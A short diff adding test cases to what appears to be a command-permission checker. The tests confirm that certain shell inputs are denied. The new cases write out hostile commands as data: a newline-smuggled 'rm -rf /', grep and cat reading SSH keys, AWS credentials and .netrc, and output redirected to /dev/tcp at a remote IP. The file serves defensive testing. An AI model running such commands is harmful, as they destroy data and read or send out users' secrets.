@@ -111,6 +111,11 @@ describe('commands: refused for auto-allow with ls echo cat find rg sed git grep
     ['/bin/ls', 'command.not-allowed'],
     ["echo $'\\x41'", 'command.construct'],
     ['for i in 1; do ls; done', 'command.construct'],
+    ['ls\nrm -rf /', 'command.not-allowed'],
+    ['grep -f~/.ssh/id_rsa x', 'floor'],
+    ['grep --file=/home/u/.aws/credentials x', 'floor'],
+    ['ls > /dev/tcp/1.2.3.4/80', 'command.redirect'],
+    ['cat < ~/.netrc', 'floor'],
   ])('%s → %s', async (text, rule) => {
     const decision = await run(cmd(text));
     expect(decision).toMatchObject({ kind: 'deny', rule });
